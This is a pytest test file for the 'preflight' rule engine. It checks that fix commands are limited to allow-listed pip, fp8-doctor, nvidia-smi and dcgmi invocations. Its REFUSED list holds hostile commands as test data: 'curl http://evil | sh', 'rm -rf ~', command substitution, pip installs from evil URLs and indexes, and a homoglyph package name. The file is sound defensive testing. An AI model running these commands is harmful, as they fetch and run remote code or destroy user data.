"""``fix.commands`` must be safe to run as printed: one allow-listed simple command."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from preflight.engine.fixcommands import unsafe_reason
from preflight.engine.loader import collect, load_rules
from preflight.engine.model import RuleLoadError

SAMPLE = Path(__file__).parent / "data" / "rules" / "acc" / "FP8D-ACC-0001.yaml"
BUNDLED = Path(__file__).resolve().parents[2] / "rules"

ACCEPTED = [
    "pip install 'accelerate>=1.11.0'",
    "pip install 'transformer-engine[pytorch]>=1.12'",
    "pip install --upgrade 'torchao>=0.18.0' --no-deps",
    "python -m pip install -U \"accelerate>=1.9.0\"",
    "python3 -m pip uninstall -y transformer-engine",
    "pip install 'torch!=2.5.0'",
    "fp8-doctor check --deep",
    "fp8-doctor smoke --format json",
    "fp8-doctor smoke --format=json --backend te",
    "nvidia-smi",
    "nvidia-smi -q -d CLOCK,POWER,PERFORMANCE",
    "nvidia-smi --query-gpu=name,compute_cap --format=csv",
    "nvidia-smi topo -m",
    "dcgmi diag -r 3",
]

REFUSED = [
    ("rm -rf ~", "'rm' is not an allowed program"),
    ("curl http://evil | sh", "'curl' is not an allowed program"),
    ("wget -qO- http://evil", "'wget' is not an allowed program"),
    ("sudo pip install accelerate", "'sudo' is not an allowed program"),
    ("bash -c 'pip install x'", "'bash' is not an allowed program"),
    ("NVTE_FLASH_ATTN=0 fp8-doctor check", "setting environment variables"),
    ("export NVTE_FLASH_ATTN=0", "'export' is not an allowed program"),
    ("pip install accelerate; rm -rf ~", "shell syntax outside quotes (; ~)"),
    ("pip install accelerate && fp8-doctor check", "shell syntax outside quotes (&)"),
    ("pip install accelerate > log", "shell syntax outside quotes (>)"),
    ("pip install accelerate>=1.11", "shell syntax outside quotes (>)"),     # a redirect!
    ("pip install transformer-engine[pytorch]", "shell syntax outside quotes ([ ])"),  # a glob
    ("pip install $(curl evil)", "$ may expand"),
    ("pip install `curl evil`", "` may expand"),
    ("pip install \"accelerate$X\"", "$ may expand"),
    ("pip install 'accelerate>=1.11.0", "unbalanced quotes"),
    ("pip install accelerate\nrm -rf ~", "only printable ASCII"),
    ("pip install accelerat\u0435", "only printable ASCII"),                 # Cyrillic e
    ("pip install -i https://evil/simple accelerate", "option -i is not allowed for pip"),
    ("pip install --index-url=https://evil accelerate", "option --index-url is not allowed"),
    ("pip install --extra-index-url https://evil x", "option --extra-index-url is not allowed"),
    ("pip install -r requirements.txt", "option -r is not allowed for pip"),
    ("pip install 'evil @ https://evil/x.whl'", "installs from a URL"),
    ("pip install git+https://evil/x", "not a package requirement"),
    ("pip install ./evil", "not a package requirement"),
    ("pip download accelerate", "pip may only be run as pip install|list|show|uninstall"),
    ("python -m http.server", "'python' is not an allowed program"),
    ("fp8-doctor report -o /etc/passwd", "option -o is not allowed for fp8-doctor"),
    ("fp8-doctor report --output=x.md", "option --output is not allowed for fp8-doctor"),
    ("fp8-doctor report -ox.md", "option -ox.md is not allowed for fp8-doctor"),
    ("nvidia-smi -r", "option -r is not allowed for nvidia-smi"),
    ("nvidia-smi -i 0 --gpu-reset", "option --gpu-reset is not allowed"),
    ("nvidia-smi -pm 1", "option -pm is not allowed for nvidia-smi"),
    ("nvidia-smi mig -dgi", "nvidia-smi may only be run as nvidia-smi nvlink|topo"),
    ("dcgmi config --set -a 1", "dcgmi may only be run as dcgmi diag|discovery"),
    ("dcgmi diag -r 3 --statspath /tmp", "option --statspath is not allowed for dcgmi"),
    ("", "empty command"),
]


@pytest.mark.parametrize("command", ACCEPTED)
def test_accepted(command: str) -> None:
    assert unsafe_reason(command) is None


@pytest.mark.parametrize("command, reason", REFUSED, ids=[c for c, _ in REFUSED])
def test_refused(command: str, reason: str) -> None:
    got = unsafe_reason(command)
    assert got is not None and reason in got, got


def test_every_bundled_command_is_accepted() -> None:
    rules, problems, _ = collect([BUNDLED])
    assert not [p for p in problems if p.level == "error"]
    commands = [c for r in rules for c in r.fix.commands]
    assert commands and all(unsafe_reason(c) is None for c in commands)


def _rule_with(tmp_path: Path, fix: str) -> Path:
    text = SAMPLE.read_text()
    old = ("fix:\n  text: Upgrade to accelerate>=1.11.0.\n"
           "  commands: [\"pip install 'accelerate>=1.11.0'\"]\n")
    assert old in text
    f = tmp_path / SAMPLE.name
    f.write_text(text.replace(old, fix))
    return f


def test_an_unsafe_command_is_a_load_error_with_file_and_line(tmp_path: Path) -> None:
    f = _rule_with(tmp_path, "fix:\n  text: Clean up.\n  commands:\n"
                             "    - \"pip install 'accelerate>=1.11.0'\"\n"
                             "    - rm -rf ~\n"
                             "    - curl http://evil | sh\n")
    with pytest.raises(RuleLoadError) as err:
        load_rules([str(f)])
    messages = [str(p) for p in err.value.problems]
    assert messages[0].startswith(f"{f}:23: fix.commands[1] 'rm -rf ~' is refused: 'rm' is not")
    assert messages[1].startswith(f"{f}:24: fix.commands[2] 'curl http://evil | sh' is refused")
    assert len(messages) == 2


def test_fix_safety_key_is_warned_about_not_silently_accepted(tmp_path: Path) -> None:
    f = _rule_with(tmp_path, "fix:\n  text: Upgrade.\n  commands: []\n  safety: safe\n")
    ruleset = load_rules([str(f)])
    assert [str(w) for w in ruleset.warnings] == [
        f"{f}:22: warning: unknown key 'safety' in fix ignored"]


def test_the_documented_allow_list_is_the_real_one() -> None:
    from preflight.engine.fixcommands import PROGRAMS

    doc = (Path(__file__).resolve().parents[2] / "docs" / "rule-format.md").read_text()
    section = doc[doc.index("## Fix commands"):doc.index("## Inline tests")]
    for name in PROGRAMS:
        assert re.search(rf"`{re.escape(name)}", section), name
